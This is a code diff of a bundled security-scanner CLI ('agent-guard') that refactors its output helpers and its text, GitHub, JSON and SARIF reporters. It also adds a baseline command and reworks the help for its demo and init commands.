+    err: (t) => err2(globalRedactor.redact(t))
+  };
+}
+var writers = /* @__PURE__ */ new WeakMap();
+function writer(stream) {
+  let write = writers.get(stream);
+  if (!write) {
+    let gone = false;
+    stream.on("error", (e) => {
+      if (e.code !== "EPIPE" && e.code !== "ERR_STREAM_DESTROYED") throw e;
+      gone = true;
+    });
+    write = (text) => {
+      if (!gone && !stream.destroyed) stream.write(text);
+    };
+    writers.set(stream, write);
   }
-};
-
-// src/cli/commands/demo.ts
-import { randomInt } from "node:crypto";
-import { cpSync, mkdtempSync, readdirSync as readdirSync2, readFileSync as readFileSync4, rmSync as rmSync3, statSync as statSync2, writeFileSync as writeFileSync3 } from "node:fs";
-import { tmpdir } from "node:os";
-import { join as join8 } from "node:path";
-
-// src/core/assets.ts
-import { existsSync as existsSync4 } from "node:fs";
-import { dirname as dirname4, join as join6, resolve as resolve4 } from "node:path";
-import { fileURLToPath as fileURLToPath2 } from "node:url";
-function assetPath(relative5) {
-  const here = dirname4(fileURLToPath2(import.meta.url));
-  const bundled2 = join6(here, relative5);
-  if (existsSync4(bundled2)) return bundled2;
-  return resolve4(here, "..", "..", relative5);
+  return write;
+}
+function writeFileAtomic(path2, text) {
+  const target = resolve3(path2);
+  const tmp = join5(dirname4(target), `.${basename3(target)}.${process.pid}.${randomBytes2(4).toString("hex")}.tmp`);
+  try {
+    writeFileSync2(tmp, globalRedactor.redact(text));
+    renameSync2(tmp, target);
+  } catch (err2) {
+    rmSync2(tmp, { force: true });
+    throw new UsageError(`cannot write ${path2}: ${err2.code ?? err2.message}`);
+  }
+}
+function useColor(io) {
+  if (io.color !== void 0) return io.color;
+  const force = io.env.FORCE_COLOR;
+  if (force !== void 0) return force !== "0" && force.toLowerCase() !== "false";
+  if (io.env.NO_COLOR !== void 0 && io.env.NO_COLOR !== "") return false;
+  return io.stdoutIsTTY && io.env.TERM !== "dumb";
+}
+function info2(io, text) {
+  if (io.verbosity !== "quiet") io.err(`agent-guard: ${text}
+`);
+}
+function verbose(io, text) {
+  if (io.verbosity === "verbose") io.err(`agent-guard: ${text}
+`);
+}
+function isQuiet(io) {
+  return io.verbosity === "quiet";
 }
 
 // src/app/scan-output.ts
-import { resolve as resolve6 } from "node:path";
+import { resolve as resolve4 } from "node:path";
 
 // src/reporters/text.ts
 var ANSI = { red: 31, yellow: 33, blue: 34, gray: 90, bold: 1, underline: 4 };
@@ -37599,6 +37918,20 @@ function excludedNote(stats) {
   return config + (stats.dependencyFiles ? `, ${plural(stats.dependencyFiles, "file")} in node_modules/ left out` : "");
 }
 var SEVERITY_COLOR = { error: "red", warning: "yellow", note: "blue" };
+function fixSection(findings, paint) {
+  const fixes = /* @__PURE__ */ new Map();
+  for (const f of findings) {
+    const set = fixes.get(f.ruleId) ?? /* @__PURE__ */ new Set();
+    set.add(f.fix);
+    fixes.set(f.ruleId, set);
+  }
+  if (fixes.size === 0) return [];
+  const width = Math.max(...[...fixes.keys()].map((id) => id.length));
+  const out2 = [paint("bold", "how to fix:")];
+  for (const [id, set] of [...fixes].sort((a, b) => a[0] < b[0] ? -1 : 1)) for (const fix of set) out2.push(`  ${paint("gray", id.padEnd(width))}  ${printable(fix)}`);
+  out2.push("");
+  return out2;
+}
 var textReporter = (result, options = {}) => {
   const paint = painter(Boolean(options.color));
   const byFile = /* @__PURE__ */ new Map();
@@ -37621,6 +37954,12 @@ var textReporter = (result, options = {}) => {
     });
     lines.push("");
   }
+  if (options.quiet) {
+    for (const e of result.ruleErrors) lines.push(`${printable(e.path)}  ${paint("gray", printable(`rule error: ${e.reason}`))}`);
+    if (lines.length && lines[lines.length - 1] === "") lines.pop();
+    return lines.length ? lines.join("\n") + "\n" : "";
+  }
+  lines.push(...fixSection(result.findings, paint));
   const counts = countBySeverity(result);
   const total = result.findings.length;
   if (total === 0) {
@@ -37652,47 +37991,96 @@ function escapeProperty(s) {
   return escapeData(s).replace(/:/g, "%3A").replace(/,/g, "%2C");
 }
 var COMMAND = { error: "error", warning: "warning", note: "notice" };
+var GITHUB_ANNOTATIONS_PER_LEVEL = 10;
+function annotationText(f) {
+  return `${f.message}
+Fix: ${f.fix}
+Docs: ${f.helpUri}`;
+}
 function historyCommand(f) {
   const p = f.properties ?? {};
   const sha = typeof p.commit === "string" ? p.commit.slice(0, 7) : "?";
-  const advice = f.family !== "secret" ? ` (fix: ${f.fix})` : /\brotate\b/i.test(f.message) ? "" : " (rotate the key: deleting it in a later commit does not unpublish it)";
+  const advice = f.family !== "secret" ? `
+Fix: ${f.fix}` : /\brotate\b/i.test(f.message) ? "" : " (rotate the key: deleting it in a later commit does not unpublish it)";
   const link = typeof p.commitUrl === "string" ? ` ${p.commitUrl}` : "";
   const title = `agent-guard ${f.ruleId} (git history, commit ${sha})`;
   return `::${COMMAND[f.severity]} title=${escapeProperty(title)}::${escapeData(`${f.path}:${f.range.startLine} in commit ${sha}${link}: ${f.message}${advice}`)}`;
 }
+function findingCommand(f) {
+  if (f.properties?.history === true) return historyCommand(f);
+  const props = [
+    `file=${escapeProperty(f.path)}`,
+    `line=${f.range.startLine}`,
+    `col=${f.range.startColumn}`,
+    `endLine=${f.range.endLine}`,
+    ...f.range.endLine === f.range.startLine ? [`endColumn=${f.range.endColumn}`] : [],
+    `title=${escapeProperty(`agent-guard ${f.ruleId}`)}`
+  ];
+  return `::${COMMAND[f.severity]} ${props.join(",")}::${escapeData(annotationText(f))}`;
+}
+function logLine(text) {
+  return `agent-guard: ${printable(text)}`;
+}
+function findingLogLine(f) {
+  const commit = typeof f.properties?.commit === "string" && f.properties.history === true ? ` in commit ${String(f.properties.commit).slice(0, 7)}` : "";
+  return logLine(`${f.severity} ${f.path}:${f.range.startLine}:${f.range.startColumn}${commit} ${f.ruleId}: ${f.message}`);
+}
 var githubReporter = (result) => {
-  const lines = [];
-  for (const f of result.findings) {
-    if (f.properties?.history === true) {
-      lines.push(historyCommand(f));
-      continue;
+  const commands = [];
+  const overflow = [];
+  const used = { error: 0, warning: 0, note: 0 };
+  const cap = { error: GITHUB_ANNOTATIONS_PER_LEVEL, warning: GITHUB_ANNOTATIONS_PER_LEVEL, note: GITHUB_ANNOTATIONS_PER_LEVEL - 1 };
+  const cut = { error: 0, warning: 0, note: 0 };
+  const emit = (level, command, plain) => {
+    if (used[level] < cap[level]) {
+      used[level]++;
+      commands.push(command());
+    } else {
+      cut[level]++;
+      overflow.push(plain());
     }
-    const props = [
-      `file=${escapeProperty(f.path)}`,
-      `line=${f.range.startLine}`,
-      `col=${f.range.startColumn}`,
-      `endLine=${f.range.endLine}`,
-      ...f.range.endLine === f.range.startLine ? [`endColumn=${f.range.endColumn}`] : [],
-      `title=${escapeProperty(`agent-guard ${f.ruleId}`)}`
-    ];
-    lines.push(`::${COMMAND[f.severity]} ${props.join(",")}::${escapeData(`${f.message} (fix: ${f.fix})`)}`);
-  }
-  for (const s of result.skipped) {
-    lines.push(`::notice file=${escapeProperty(s.path)},title=${escapeProperty("agent-guard skipped a file")}::${escapeData(`skipped: ${s.reason}`)}`);
+  };
+  for (const f of result.findings) emit(f.severity, () => findingCommand(f), () => findingLogLine(f));
+  for (const s of result.ruleErrors) {
+    emit(
+      "warning",
+      () => `::warning file=${escapeProperty(s.path)},title=${escapeProperty("agent-guard rule error")}::${escapeData(s.reason)}`,
+      () => logLine(`rule error ${s.path}: ${s.reason}`)
+    );
   }
   for (const n of result.notices ?? []) {
     const where2 = [`file=${escapeProperty(n.path)}`, ...n.line ? [`line=${n.line}`] : [], `title=${escapeProperty("agent-guard")}`];
-    lines.push(`::notice ${where2.join(",")}::${escapeData(n.message)}`);
+    emit(
+      "note",
+      () => `::notice ${where2.join(",")}::${escapeData(n.message)}`,
+      () => logLine(`note ${n.line ? `${n.path}:${n.line}` : n.path}: ${n.message}`)
+    );
   }
-  for (const s of result.ruleErrors) {
-    lines.push(`::warning file=${escapeProperty(s.path)},title=${escapeProperty("agent-guard rule error")}::${escapeData(s.reason)}`);
+  for (const s of result.skipped) {
+    emit(
+      "note",
+      () => `::notice file=${escapeProperty(s.path)},title=${escapeProperty("agent-guard skipped a file")}::${escapeData(`skipped: ${s.reason}`)}`,
+      () => logLine(`skipped ${s.path}: ${s.reason}`)
+    );
   }
-  return lines.length ? lines.join("\n") + "\n" : "";
+  return [...commands, ...overflow, closingLine(result, cut)].join("\n") + "\n";
 };
+function closingLine(result, cut) {
+  const counts = countBySeverity(result);
+  const total = result.findings.length;
+  const files = plural(result.stats.files, "file");
+  let text = total ? `${plural(total, "finding")} (${plural(counts.error, "error")}, ${plural(counts.warning, "warning")}, ${plural(counts.note, "note")}) in ${files} scanned` : `no findings in ${files} scanned`;
+  if (result.suppressed) text += `, ${result.suppressed} suppressed`;
+  const over = ["error", "warning", "note"].filter((s) => cut[s]).map((s) => `${cut[s]} ${s === "note" ? "notice" : s}${cut[s] === 1 ? "" : "s"}`);
+  if (over.length) text += `. Not annotated (GitHub shows ${GITHUB_ANNOTATIONS_PER_LEVEL} per level in a step): ${over.join(", ")}, listed in this step's log above`;
+  return `::notice title=${escapeProperty("agent-guard")}::${escapeData(`${text}.`)}`;
+}
 
 // src/reporters/json.ts
+var JSON_REPORT_FORMAT_VERSION = 1;
 var jsonReporter = (result) => {
   const doc = {
+    formatVersion: JSON_REPORT_FORMAT_VERSION,
     tool: { name: TOOL_NAME, version: VERSION },
     summary: { ...countBySeverity(result), files: result.stats.files, skipped: result.skipped.length, suppressed: result.suppressed },
     findings: result.findings.map((f) => ({
@@ -37716,31 +38104,107 @@ var jsonReporter = (result) => {
 };
 
 // src/reporters/sarif.ts
+var SARIF_LIMITS = {
+  /** Results per run. GitHub shows the 5,000 most severe, and rejects a run with more than 25,000. */
+  results: 25e3,
+  /** Locations (here: related locations) per result; 100 are shown. */
+  locations: 1e3,
+  /** Thread-flow locations (code-flow steps) per result; 1,000 are shown. */
+  threadFlowLocations: 1e4,
+  /** Tags per rule; 10 are shown. */
+  tags: 20
+};
+var DEFAULT_SARIF_CATEGORY = TOOL_NAME;
+function automationId(category = DEFAULT_SARIF_CATEGORY) {
+  const c = category.trim() || DEFAULT_SARIF_CATEGORY;
+  return c.endsWith("/") ? c : `${c}/`;
+}
 var LEVEL = { error: "error", warning: "warning", note: "note" };
 function toUri(path2) {
   return path2.split("/").map(encodeURIComponent).join("/");
 }
-function physicalLocation(loc2) {
+function physicalLocation(loc2, snippet3) {
   const { startLine, startColumn, endLine, endColumn } = loc2.range;
   return {
     artifactLocation: { uri: toUri(loc2.path), uriBaseId: "%SRCROOT%" },
-    region: { startLine, startColumn, endLine, endColumn }
+    region: { startLine, startColumn, endLine, endColumn, ...snippet3 !== void 0 ? { snippet: { text: snippet3 } } : {} }
   };
 }
+function withoutAsides(text) {
+  let out2 = "";
+  let depth = 0;
+  for (let i2 = 0; i2 < text.length; i2++) {
+    const c = text[i2];
+    if (depth === 0 && c === "(" && /\s/.test(text[i2 - 1] ?? "")) {
+      depth = 1;
+      out2 = out2.replace(/\s+$/, "");
+    } else if (depth > 0) {
+      if (c === "(") depth++;
+      else if (c === ")") depth--;
+    } else out2 += c;
+  }
+  return out2.replace(/\s+/g, " ").replace(/\s+([,.;:])(?=\s|$)/g, "$1").trim();
+}
+var SHORT_MAX = 120;
+function shortDescription(meta) {
+  if (meta.summary) return meta.summary;
+  const plain = withoutAsides(meta.description);
+  const sentence = /^(.*?[.!?])(?:\s|$)/.exec(plain)?.[1] ?? plain;
+  if (sentence.length <= SHORT_MAX) return sentence;
+  const head = sentence.slice(0, SHORT_MAX - 1);
+  const cut = Math.max(head.lastIndexOf(": "), head.lastIndexOf("; "), head.lastIndexOf(", "), head.lastIndexOf(" \u2014 "));
+  if (cut >= 40) return `${head.slice(0, cut)}.`;
+  return `${head.slice(0, head.lastIndexOf(" "))}\u2026`;
+}
+function mdRuleText(s) {
+  return s.split(/(`[^`\r\n]+`)/).map((part, i2) => i2 % 2 === 1 ? part : part.replace(/[\\*_[\]<>]/g, "\\$&")).join("");
+}
+var LANGUAGE_NAMES = { python: "Python", javascript: "JavaScript / TypeScript" };
+function fixLines(meta) {
+  const variants = Object.entries(meta.languageFixes ?? {});
+  if (variants.length === 0) return [{ label: "", text: meta.fix }];
+  return variants.map(([language, text]) => ({ label: LANGUAGE_NAMES[language], text }));
+}
+function ruleHelp(meta) {
+  const fixes = fixLines(meta);
+  const cwe = meta.cwe.map((n) => `CWE-${n}`);
+  const suppress = `agent-guard-ignore ${meta.id}: <reason>`;
+  const text = [
+    meta.description,
+    "",
+    ...fixes.map((f) => `Fix${f.label ? ` (${f.label})` : ""}: ${f.text}`),
+    "",
+    `Security severity ${meta.securitySeverity.toFixed(1)}, precision ${meta.precision}${cwe.length ? `, ${cwe.join(", ")}` : ""}.`,
+    `Suppress a reviewed finding with "${suppress}" in a comment on its line or the line above.`,
+    `Documentation: ${meta.docs}`
+  ].join("\n");
+  const markdown = [
+    mdRuleText(meta.description),
+    "",
+    ...fixes.length === 1 && !fixes[0].label ? [`**Fix:** ${mdRuleText(fixes[0].text)}`] : ["**Fix:**", "", ...fixes.map((f) => `- ${f.label}: ${mdRuleText(f.text)}`)],
+    "",
+    `Security severity ${meta.securitySeverity.toFixed(1)} \xB7 precision ${meta.precision}${meta.cwe.map((n) => ` \xB7 [CWE-${n}](https://cwe.mitre.org/data/definitions/${n}.html)`).join("")}`,
+    "",
+    `Suppress a reviewed finding with \`${suppress}\` in a comment on its line or the line above.`,
+    "",
+    `[Rule documentation](${meta.docs}): what it finds, why it matters, bad and good examples.`
+  ].join("\n");
+  return { text, markdown };
+}
 function ruleDescriptor(meta) {
+  const short = shortDescription(meta);
   return {
     id: meta.id,
     name: meta.id.split("/")[1].replace(/(^|-)([a-z0-9])/g, (_, __, c) => c.toUpperCase()),
-    shortDescription: { text: meta.description },
-    fullDescription: { text: `${meta.description} Fix: ${meta.fix}` },
+    shortDescription: { text: short },
+    // The whole description; when the short text already is all of it, the fix completes it.
+    fullDescription: { text: short === meta.description ? `${meta.description} ${fixLines(meta)[0].text}` : meta.description },
     helpUri: meta.docs,
-    help: { text: `${meta.description}
-Fix: ${meta.fix}
-Docs: ${meta.docs}` },
+    help: ruleHelp(meta),
     defaultConfiguration: { level: LEVEL[meta.severity] },
     // GitHub code scanning treats a result as a security alert, ranked Critical/High/Medium/Low, by security-severity.
     properties: {
-      tags: ["security", meta.family, ...meta.cwe.map((n) => `external/cwe/cwe-${n}`)],
+      tags: ["security", meta.family, ...meta.cwe.map((n) => `external/cwe/cwe-${n}`)].slice(0, SARIF_LIMITS.tags),
       precision: meta.precision,
       "security-severity": meta.securitySeverity.toFixed(1)
     }
@@ -37749,7 +38213,74 @@ Docs: ${meta.docs}` },
 function related(list2) {
   return list2.map((r2, i2) => ({ id: i2 + 1, physicalLocation: physicalLocation(r2), message: { text: r2.message } }));
 }
-var sarifReporter = (result) => {
+function linkText(s) {
+  return s.replace(/[\\[\]]/g, "\\$&");
+}
+function escapeRegExp(s) {
+  return s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+}
+function messageWithLinks(message, relatedLocations) {
+  let text = message.replace(/\]\(/g, "\\](");
+  const trailing = [];
+  relatedLocations.forEach((r2, i2) => {
+    const id = i2 + 1;
+    const quoted = /(\w+) "([^"]+)"/.exec(r2.message);
+    if (quoted) {
+      const [, word, name2] = quoted;
+      const pattern = `"${escapeRegExp(name2)}(?:[.[][^"]*)?"`;
+      const m = new RegExp(`(?<![[\\w])${escapeRegExp(word)} ${pattern}`).exec(text) ?? new RegExp(`(?<![[\\w])${pattern}`).exec(text);
+      if (m) {
+        text = `${text.slice(0, m.index)}[${linkText(m[0])}](${id})${text.slice(m.index + m[0].length)}`;
+        return;
+      }
+    }
+    trailing.push(`[${linkText(r2.message)}](${id})`);
+  });
+  return trailing.length ? `${text} (${trailing.join(", ")})` : text;
+}
+function capSteps(steps, max) {
+  return steps.length <= max ? [...steps] : [...steps.slice(0, max - 1), steps[steps.length - 1]];
+}
+function capResults(findings, max) {
+  const dropped = { error: 0, warning: 0, note: 0 };
+  if (findings.length <= max) return { kept: [...findings], dropped };
+  const order = findings.map((f, i2) => ({ f, i: i2 })).sort((a, b) => SEVERITY_RANK[b.f.severity] - SEVERITY_RANK[a.f.severity] || a.i - b.i);
+  const keep = new Set(order.slice(0, max).map((x) => x.i));
+  for (const x of order.slice(max)) dropped[x.f.severity]++;
+  return { kept: findings.filter((_, i2) => keep.has(i2)), dropped };
+}
+function resultOf(f, ruleIndex, cut) {
+  const relatedLocations = f.related.slice(0, SARIF_LIMITS.locations);
+  if (relatedLocations.length < f.related.length) cut.related++;
+  const steps = capSteps(f.flow, SARIF_LIMITS.threadFlowLocations);
+  if (steps.length < f.flow.length) cut.flow++;
+  return {
+    ruleId: f.ruleId,
+    ...ruleIndex.has(f.ruleId) ? { ruleIndex: ruleIndex.get(f.ruleId) } : {},
+    level: LEVEL[f.severity],
+    message: { text: messageWithLinks(f.message, relatedLocations) },
+    locations: [{ physicalLocation: physicalLocation(f, f.snippet) }],
+    ...relatedLocations.length ? { relatedLocations: related(relatedLocations) } : {},
+    ...steps.length ? {
+      codeFlows: [
+        {
+          threadFlows: [
+            {
+              locations: steps.map((step) => ({ location: { physicalLocation: physicalLocation(step), message: { text: step.message } } }))
+            }
+          ]
+        }
+      ]
+    } : {},
+    partialFingerprints: {
+      // What code scanning matches alerts by; a finding with no line in the checked-out tree (git history) gets one made from its fingerprint.
+      primaryLocationLineHash: f.lineHash ?? derivedLineHash(f.fingerprint),
+      "agentGuardFingerprint/v1": f.fingerprint
+    },
+    ...f.properties ? { properties: f.properties } : {}
+  };
+}
+var sarifReporter = (result, options = {}) => {
   const rules2 = [...result.rules].sort((a, b) => a.id < b.id ? -1 : 1);
   const ruleIndex = new Map(rules2.map((r2, i2) => [r2.id, i2]));
   const notifications = [
@@ -37767,27 +38298,21 @@ var sarifReporter = (result) => {
       locations: [{ physicalLocation: { artifactLocation: { uri: toUri(n.path), uriBaseId: "%SRCROOT%" }, ...n.line ? { region: { startLine: n.line } } : {} } }]
     });
   }
-  const results = result.findings.map((f) => ({
-    ruleId: f.ruleId,
-    ...ruleIndex.has(f.ruleId) ? { ruleIndex: ruleIndex.get(f.ruleId) } : {},
-    level: LEVEL[f.severity],
-    message: { text: f.message },
-    locations: [{ physicalLocation: physicalLocation(f) }],
-    ...f.related.length ? { relatedLocations: related(f.related) } : {},
-    ...f.flow.length ? {
-      codeFlows: [
-        {
-          threadFlows: [
-            {
-              locations: f.flow.map((step) => ({ location: { physicalLocation: physicalLocation(step), message: { text: step.message } } }))
-            }
-          ]
-        }
-      ]
-    } : {},
-    partialFingerprints: { "agentGuardFingerprint/v1": f.fingerprint },
-    ...f.properties ? { properties: f.properties } : {}
-  }));
+  const { kept, dropped } = capResults(result.findings, SARIF_LIMITS.results);
+  const cut = { related: 0, flow: 0 };
+  const results = kept.map((f) => resultOf(f, ruleIndex, cut));
+  const droppedTotal = dropped.error + dropped.warning + dropped.note;
+  if (droppedTotal) {
+    const which = ["error", "warning", "note"].filter((s) => dropped[s]).map((s) => plural(dropped[s], s));
+    notifications.push({
+      level: "warning",
+      message: {
+        text: `${result.findings.length.toLocaleString("en-US")} findings, ${SARIF_LIMITS.results.toLocaleString("en-US")} results kept: GitHub code scanning rejects a run with more. The ${droppedTotal.toLocaleString("en-US")} least severe (${which.join(", ")}) are left out of this file; the JSON and text reports list every finding.`
+      }
+    });
+  }
+  if (cut.related) notifications.push({ level: "warning", message: { text: `${plural(cut.related, "result")} had more than ${SARIF_LIMITS.locations.toLocaleString("en-US")} related locations (GitHub's limit per result): the first ${SARIF_LIMITS.locations.toLocaleString("en-US")} are kept.` } });
+  if (cut.flow) notifications.push({ level: "warning", message: { text: `${plural(cut.flow, "result")} had a code flow of more than ${SARIF_LIMITS.threadFlowLocations.toLocaleString("en-US")} steps (GitHub's limit per result): its first steps and its sink are kept.` } });
   const doc = {
     $schema: "https://json.schemastore.org/sarif-2.1.0.json",
     version: "2.1.0",
@@ -37802,6 +38327,7 @@ var sarifReporter = (result) => {
             rules: rules2.map(ruleDescriptor)
           }
         },
+        automationDetails: { id: automationId(options.category) },
         columnKind: "utf16CodeUnits",
         originalUriBaseIds: { "%SRCROOT%": { description: { text: "The root of the scanned repository." } } },
         invocations: [{ executionSuccessful: true, toolExecutionNotifications: notifications }],
@@ -37853,52 +38379,6 @@ var REPORTERS = {
   github: githubReporter
 };
 
-// src/app/io.ts
-import { randomBytes as randomBytes2 } from "node:crypto";
-import { renameSync as renameSync2, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
-import { basename as basename3, dirname as dirname5, join as join7, resolve as resolve5 } from "node:path";
-function processIO() {
-  const out2 = writer(process.stdout);
-  const err2 = writer(process.stderr);
-  return {
-    cwd: process.cwd(),
-    env: process.env,
-    stdoutIsTTY: Boolean(process.stdout.isTTY),
-    out: (t) => out2(globalRedactor.redact(t)),
-    err: (t) => err2(globalRedactor.redact(t))
-  };
-}
-var writers = /* @__PURE__ */ new WeakMap();
-function writer(stream) {
-  let write = writers.get(stream);
-  if (!write) {
-    let gone = false;
-    stream.on("error", (e) => {
-      if (e.code !== "EPIPE" && e.code !== "ERR_STREAM_DESTROYED") throw e;
-      gone = true;
-    });
-    write = (text) => {
-      if (!gone && !stream.destroyed) stream.write(text);
-    };
-    writers.set(stream, write);
-  }
-  return write;
-}
-function writeFileAtomic(path2, text) {
-  const target = resolve5(path2);
-  const tmp = join7(dirname5(target), `.${basename3(target)}.${process.pid}.${randomBytes2(4).toString("hex")}.tmp`);
-  try {
-    writeFileSync2(tmp, globalRedactor.redact(text));
-    renameSync2(tmp, target);
-  } catch (err2) {
-    rmSync2(tmp, { force: true });
-    throw new UsageError(`cannot write ${path2}: ${err2.code ?? err2.message}`);
-  }
-}
-function useColor(io) {
-  return io.stdoutIsTTY && !("NO_COLOR" in io.env && io.env.NO_COLOR !== "") && io.env.TERM !== "dumb";
-}
-
 // src/app/scan-output.ts
 var REPORT_OPTIONS = {
   format: { type: "string", short: "f" },
@@ -37908,35 +38388,125 @@ var REPORT_OPTIONS = {
 var REPORT_USAGE = `  -f, --format FORMAT   text (default), json, sarif, github
   -o, --output FILE     write the report to FILE (atomically) instead of stdout
       --fail-on LEVEL   error (default), warning, note or never: exit 1 when a finding is at or above it`;
+function oneOf(flag, value, allowed, context = "") {
+  if (allowed.includes(value)) return value;
+  const hint = didYouMean(value, allowed);
+  throw new UsageError(`unknown ${flag} "${value}"${context}${hint ? `: ${hint}` : ""} (expected one of: ${allowed.join(", ")})`);
+}
 function parseFormat(value) {
-  const format2 = value ?? "text";
-  if (!FORMATS.includes(format2)) throw new UsageError(`unknown --format "${format2}" (expected one of: ${FORMATS.join(", ")})`);
-  return format2;
+  return oneOf("--format", String(value ?? "text"), FORMATS);
 }
 function parseFailOn(value, fallback) {
   if (value === void 0) return fallback;
-  const allowed = ["error", "warning", "note", "never"];
-  if (!allowed.includes(value)) throw new UsageError(`unknown --fail-on "${String(value)}" (expected one of: ${allowed.join(", ")})`);
-  return value;
+  return oneOf("--fail-on", String(value), ["error", "warning", "note", "never"]);
 }
 function exitCodeFor(result, failOn) {
   if (failOn === "never") return 0;
   const threshold = SEVERITY_RANK[failOn];
   return result.findings.some((f) => SEVERITY_RANK[f.severity] >= threshold) ? 1 : 0;
 }
+function describeScan(io, result) {
+  const s = result.stats;
+  const left = [
+    result.skipped.length ? `${result.skipped.length} skipped` : "",
+    s.excluded ? `${s.excluded} excluded by the config` : "",
+    s.dependencyFiles ? `${s.dependencyFiles} in node_modules/ left out` : "",
+    result.suppressed ? `${plural(result.suppressed, "finding")} suppressed` : "",
+    result.ruleErrors.length ? plural(result.ruleErrors.length, "rule error") : ""
+  ].filter(Boolean);
+  verbose(
+    io,
+    `scanned ${plural(s.files, "file")} (${formatKiB(s.bytes)}) with ${plural(result.rules.length, "rule")} in ${s.durationMs} ms${left.length ? `; ${left.join(", ")}` : ""}`
+  );
+  for (const skipped of result.skipped) verbose(io, `skipped ${skipped.path}: ${skipped.reason}`);
+}
+function formatKiB(bytes) {
+  return bytes < 1024 ? `${bytes} B` : bytes < 1024 * 1024 ? `${(bytes / 1024).toFixed(1)} KiB` : `${(bytes / 1024 / 1024).toFixed(1)} MiB`;
+}
 function emitReport(result, args2, io, configFailOn) {
   const format2 = parseFormat(args2.values.format);
   const failOn = parseFailOn(args2.values["fail-on"], configFailOn);
   const output = args2.values.output;
-  const text = REPORTERS[format2](result, { color: !output && format2 === "text" && useColor(io) });
+  describeScan(io, result);
+  const started = performance.now();
+  const color = !output && format2 === "text" && useColor(io);
+  const text = format2 === "text" ? textReporter(result, { color, quiet: isQuiet(io) }) : REPORTERS[format2](result);
   if (output) {
-    writeFileAtomic(resolve6(io.cwd, output), text);
-    if (format2 !== "text") io.err(`agent-guard: ${result.findings.length} finding(s); ${format2} report written to ${output}
-`);
+    writeFileAtomic(resolve4(io.cwd, output), text);
+    if (format2 !== "text") info2(io, `${plural(result.findings.length, "finding")}; ${format2} report written to ${output}`);
   } else {
     io.out(text);
   }
+  verbose(
+    io,
+    `${format2} report (${formatKiB(Buffer.byteLength(text))}) written to ${output ?? "stdout"} in ${Math.round(performance.now() - started)} ms; fail-on ${failOn}`
+  );
   return exitCodeFor(result, failOn);
+}
+
+// src/cli/commands/baseline.ts
+var baselineCommand = {
+  name: "baseline",
+  summary: `record today's findings in ${BASELINE_FILE} so scans report only new ones`,
+  usage: "agent-guard baseline [PATH...] [options]",
+  description: `Scans PATH (default: the whole repository) like "agent-guard scan" and writes the fingerprint of every
+finding to ${BASELINE_FILE} at the repository root. Then "agent-guard scan --baseline ${BASELINE_FILE}"
+reports only findings that are not in it, and notes entries that no longer match (run this command again
+to drop them). The file is sorted, has no timestamps or line numbers, and is written atomically: commit it.`,
+  optionsHelp: `  -o, --output FILE     write the baseline to FILE instead
+  -c, --config FILE     use FILE instead of .agent-guard.yml at the root`,
+  options: { output: { type: "string", short: "o" }, config: { type: "string", short: "c" } },
+  allowPositionals: true,
+  async run(args2, io) {
+    const configFile = args2.values.config ? resolve5(io.cwd, args2.values.config) : void 0;
+    const located = loadRootAndConfig(args2.positionals.length ? args2.positionals.map((p) => resolve5(io.cwd, p)) : [io.cwd], ALL_RULES, configFile);
+    const { root, config } = located;
+    const paths = args2.positionals.length ? args2.positionals.map((p) => resolve5(io.cwd, p)) : [root.root];
+    const target = args2.values.output ? resolve5(io.cwd, args2.values.output) : join6(root.root, BASELINE_FILE);
+    let previous = null;
+    if (existsSync3(target)) {
+      try {
+        previous = loadBaseline(target);
+      } catch {
+        previous = null;
+      }
+    }
+    const result = await scan({ paths, rules: ALL_RULES, config });
+    const written = writeBaseline(target, result.findings);
+    const rel = relative2(io.cwd, target);
+    const shown = rel && !isAbsolute2(rel) && rel.length < target.length ? rel : target;
+    let change = "";
+    if (previous) {
+      const before = new Set(previous.entries.map((e) => e.fingerprint));
+      const after = new Set(written.entries.map((e) => e.fingerprint));
+      const added = written.entries.filter((e) => !before.has(e.fingerprint)).length;
+      const dropped = previous.entries.filter((e) => !after.has(e.fingerprint)).length;
+      change = ` (${added} new, ${dropped} dropped)`;
+    }
+    describeScan(io, result);
+    if (!isQuiet(io)) io.out(`agent-guard: wrote ${plural(written.entries.length, "finding")} to ${shown}${change}
+`);
+    if (result.skipped.length && !isQuiet(io)) io.out(`agent-guard: ${plural(result.skipped.length, "file")} skipped (run "agent-guard scan" to see why)
+`);
+    return 0;
+  }
+};
+
+// src/cli/commands/demo.ts
+import { randomInt } from "node:crypto";
+import { cpSync, mkdtempSync, readdirSync as readdirSync2, readFileSync as readFileSync4, rmSync as rmSync3, statSync as statSync2, writeFileSync as writeFileSync3 } from "node:fs";
+import { tmpdir } from "node:os";
+import { join as join8 } from "node:path";
+
+// src/core/assets.ts
+import { existsSync as existsSync4 } from "node:fs";
+import { dirname as dirname5, join as join7, resolve as resolve6 } from "node:path";
+import { fileURLToPath as fileURLToPath2 } from "node:url";
+function assetPath(relative5) {
+  const here = dirname5(fileURLToPath2(import.meta.url));
+  const bundled2 = join7(here, relative5);
+  if (existsSync4(bundled2)) return bundled2;
+  return resolve6(here, "..", "..", relative5);
 }
 
 // src/cli/commands/demo.ts
@@ -37980,12 +38550,10 @@ function materialiseDemo(target, seed) {
 var demoCommand = {
   name: "demo",
   summary: "scan the embedded example agent repository (with freshly generated fake keys)",
-  usage: `agent-guard demo [options]
-
-Copies the example repository ${DEMO_REPOSITORY} to a temporary directory, fills it with freshly
-generated fake API keys, scans it and prints the report.
-
-${REPORT_OPTIONS ? REPORT_USAGE : ""}
+  usage: "agent-guard demo [options]",
+  description: `Copies the example repository ${DEMO_REPOSITORY} to a temporary directory, fills it with freshly
+generated fake API keys, scans it and prints the report: a finding of every family, in any format.`,
+  optionsHelp: `${REPORT_USAGE}
       --keep            keep the temporary directory and print its path on stderr`,
   options: { ...REPORT_OPTIONS, keep: { type: "boolean" } },
   allowPositionals: false,
@@ -38023,6 +38591,7 @@ exclude:
 # Per-rule severity ("off" disables a rule) and options; "agent-guard rules" lists the ids.
 rules: {}
 #  tool-input/ssrf: warning
+#  tool-payload/*: warning            # every rule of a family; an entry for a rule id overrides it
 #  rate-limit/unbounded-agent-loop:
 #    options: { maxIterations: 50 }
 
@@ -38040,7 +38609,12 @@ ignore: []
 var initCommand = {
   name: "init",
   summary: "write a commented starter .agent-guard.yml at the repository root",
-  usage: `agent-guard init [PATH] [--force]`,
+  usage: "agent-guard init [PATH] [--force]",
+  description: `Writes .agent-guard.yml at the root of the git repository holding PATH (default: the current
+directory): every key with its default and a comment saying what it does (failOn, maxFileSize,
